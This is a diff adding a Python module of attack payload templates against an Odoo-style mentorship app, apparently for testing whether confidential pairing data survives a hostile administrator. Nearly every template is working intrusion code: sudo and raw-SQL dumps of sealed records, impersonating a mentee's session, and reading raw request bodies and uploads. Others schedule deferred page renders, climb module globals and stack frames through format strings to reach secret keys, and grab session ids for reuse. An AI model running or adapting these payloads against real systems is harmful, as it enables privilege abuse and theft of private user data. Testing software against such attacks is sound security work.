@@ -1,0 +1,237 @@
+"""Code an administrator can write into a database, and what it tries to take.
+
+Each thief puts what it finds into the comment of a contact, its loot.
+"""
+
+PRELUDE = """
+def keep(what):
+    text = str(what).replace(chr(0), "")
+    env.cr.execute(
+        "UPDATE res_partner SET comment = concat(comment, ' ', %s::text) WHERE id = %s",
+        [text, {loot}],
+    )
+
+def attempt(function):
+    try:
+        keep(function())
+    except Exception as error:
+        keep("no: " + repr(error))
+
+core = env["res.partner"].sudo().browse({core})
+ours = {models}
+"""
+
+SUDO = """
+for name in ours:
+    records = env[name].sudo().search([])
+    attempt(lambda: records.read())
+    attempt(lambda: records.export_data(list(records.fields_get()))["datas"])
+    attempt(lambda: [record.copy_data() for record in records])
+attempt(lambda: core.read())
+"""
+
+AS_MENTEE = """
+for name in ours:
+    own = env[name].with_user({mentee})
+    attempt(lambda: own.search([]).read())
+    attempt(lambda: own.search_read([]))
+    attempt(lambda: [(r.sealed, r.readers) for r in own.sudo().search([])])
+attempt(lambda: core.with_user({mentee}).sudo().read(["comment"]))
+"""
+
+SQL = """
+for name in [*ours, "res.partner"]:
+    if not env[name]._abstract:
+        env.cr.execute("SELECT to_jsonb(t) FROM %s t" % env[name]._table)
+        for row in env.cr.fetchall():
+            if name != "res.partner" or row[0]["id"] == {core}:
+                keep(row)
+"""
+
+UNDERSCORE = """
+def call(function):
+    env.cr.execute("SAVEPOINT thief")
+    try:
+        found = function()
+        text = str(found)
+        if hasattr_read(found):
+            text += str(found.sudo().read())
+    except Exception as error:
+        text = "no: " + repr(error)
+    env.cr.execute("ROLLBACK TO SAVEPOINT thief")
+    env.invalidate_all(flush=False)
+    keep(text)
+
+def hasattr_read(found):
+    return isinstance(found, type_of_records)
+
+{calls}
+keep(core.comment)
+"""
+
+REACH = """
+box = []
+template = env["ir.ui.view"].sudo().search([("key", "=", "sweep.reach")])
+attempt(lambda: env["ir.qweb"].sudo()._render(template.id, {{"box": box}}))
+request = box[0]
+rules = [
+    rule
+    for rule in env["ir.http"].routing_map().iter_rules()
+    if rule.rule.startswith("/my/mentorship")
+]
+rooms = [r for r in rules if r.rule == "/my/mentorship/pairing/<int:pairing_id>"]
+
+def taken(answer):
+    return answer.get_data()
+"""
+"""Gets hold of the request where a server action has none: a template has one."""
+
+ENDPOINTS = """
+for rule in rules:
+    names = [word.split(":")[-1].split(">")[0] for word in rule.rule.split("<")[1:]]
+    values = {{name: {record} for name in names}}
+    attempt(lambda: taken(rule.endpoint(**values)))
+attempt(lambda: taken(rooms[0].endpoint({pairing})))
+keep(core.comment)
+"""
+
+OTHER_SESSION = """
+request.update_env(user={mentee})
+request.session.update({{"uid": {mentee}, "login": "x"}})
+attempt(lambda: taken(rooms[0].endpoint({pairing})))
+attempt(lambda: request.reroute("/my/mentorship/pairing/{pairing}"))
+attempt(lambda: taken(request._serve_db()))
+keep(core.comment)
+"""
+
+REQUEST = """
+attempt(lambda: request.params)
+attempt(lambda: request.get_http_params())
+attempt(lambda: request.httprequest.form)
+attempt(lambda: request.httprequest.values)
+attempt(lambda: [f.read() for f in request.httprequest.files.getlist("files")])
+attempt(lambda: request.httprequest.data)
+attempt(lambda: request.httprequest.get_data())
+attempt(lambda: request.httprequest.stream.read())
+attempt(lambda: request.httprequest.environ["wsgi.input"].read())
+attempt(lambda: request.httprequest.environ)
+attempt(lambda: request.session)
+attempt(lambda: env.context)
+attempt(lambda: env.cr.precommit.data)
+keep(core.comment)
+"""
+
+RECORDS = """
+attempt(lambda: records.sudo().read())
+attempt(lambda: [record.sudo()._cache for record in records])
+attempt(lambda: [dict(record.sudo()._cache) for record in records])
+keep(core.comment)
+"""
+
+LATER = """
+late = request.make_response(
+    map(lambda answer: keep(answer.get_data()) or b"", map(rooms[0].endpoint, [{pairing}]))
+)
+env.cr.precommit.add(late.get_data)
+keep(core.comment)
+"""
+"""Has the room opened once this code is no longer running."""
+
+GLOBALS = """
+method = env["res.users"].change_password
+for path in (
+    "{{0.__globals__[door]._forms.data}}",
+    "{{0.__globals__[door]._logins.data}}",
+    "{{0.__globals__[logins].Keys.__dict__}}",
+    "{{0.__globals__[logins].__dict__[json]}}",
+    "{{0.__globals__[door].sys.modules[os].environ}}",
+    "{{0.__globals__[door].__dict__}}",
+):
+    attempt(lambda: path.format(method))
+attempt(lambda: "{{0.comment}}".format(core))
+"""
+"""Walks from a method to what its module holds, by the names in a format."""
+
+FRAMES = """
+def climb():
+    try:
+        raise Exception()
+    except Exception as error:
+        path = "{{0.__traceback__.tb_frame"
+        for step in range(80):
+            attempt(lambda: (path + ".f_locals}}").format(error))
+            path += ".f_back"
+
+path = ""
+def climb_at():
+    try:
+        raise Exception()
+    except Exception as error:
+        for step in range(80):
+            place = "{{0.__traceback__.tb_frame" + ".f_back" * step + ".f_locals"
+            for what in ("", "[keys]._ring._keys", "[self]._ring._keys", "[visit].veil._texts"):
+                try:
+                    keep((place + what + "}}").format(error))
+                except Exception as trouble:
+                    keep("no")
+
+climb_at()
+keep(core.comment)
+"""
+"""Walks up the stack to what the callers hold in their hands."""
+
+SESSION = """
+attempt(lambda: "sid=" + request.session.sid + "=")
+keep(core.comment)
+"""
+"""Takes the member's session along, for a browser of the thief's own."""
+
+IN_OWN_REQUEST = {
+    "its records": RECORDS,
+    "the request": REACH + REQUEST,
+    "the pages' functions": REACH + ENDPOINTS,
+    "the same, later": REACH + LATER,
+    "what modules hold": GLOBALS,
+    "what callers hold": FRAMES,
+}
+"""{what an automation that runs in the mentee's request goes for: code}."""
+
+IN_ADMIN_REQUEST = {
+    "sudo": SUDO,
+    "as the mentee": AS_MENTEE,
+    "SQL": SQL,
+    "the pages' functions": REACH + ENDPOINTS,
+    "another session": REACH + OTHER_SESSION,
+    "the same, later": REACH + LATER,
+    "what modules hold": GLOBALS,
+    "what callers hold": FRAMES,
+}
+"""{what a server action that the administrator runs goes for: code}."""
+
+WRITE = "request.env['res.partner'].sudo().browse({loot}).write({{'comment': {what}}})"
+
+ON_PAGE = {
+    "a note's text": "str(note['texts'])",
+    "all values of a note": "str(note)",
+    "all notes": "str(notes)",
+    "goals, plans and agreements": "str([goals, plans, agreements, consents, room])",
+    "the request": "str([request.params, request.httprequest.form, "
+    "request.httprequest.get_data()])",
+    "the pages' functions": "str([rule.endpoint({pairing}).get_data() for rule in"
+    " request.env['ir.http'].routing_map().iter_rules()"
+    " if rule.rule == '/my/mentorship/pairing/<int:pairing_id>'])",
+    "what modules hold": "'{{0.__globals__[door]._forms.data}}'.format("
+    "request.env['res.users'].change_password)",
+    "core": "str(request.env['res.partner'].sudo().browse({core}).comment)",
+}
+"""{what a changed view of the room goes for: expression}."""
+
+ON_PAGE_LATER = (
+    "[request.env.cr.precommit.add(late.get_data) for late in [request.make_response("
+    "map(lambda answer: request.env['res.partner'].sudo().browse({loot})"
+    ".write({{'comment': str(answer.get_data())}}) and b'',"
+    " map([rule.endpoint for rule in request.env['ir.http'].routing_map().iter_rules()"
+    " if rule.rule == '/my/mentorship/pairing/<int:pairing_id>'][0], [{pairing}])))]]"
+)
+
+REACH_VIEW = "<t t-name='sweep.reach'><t t-set='found' t-value='box.append(request)'/></t>"
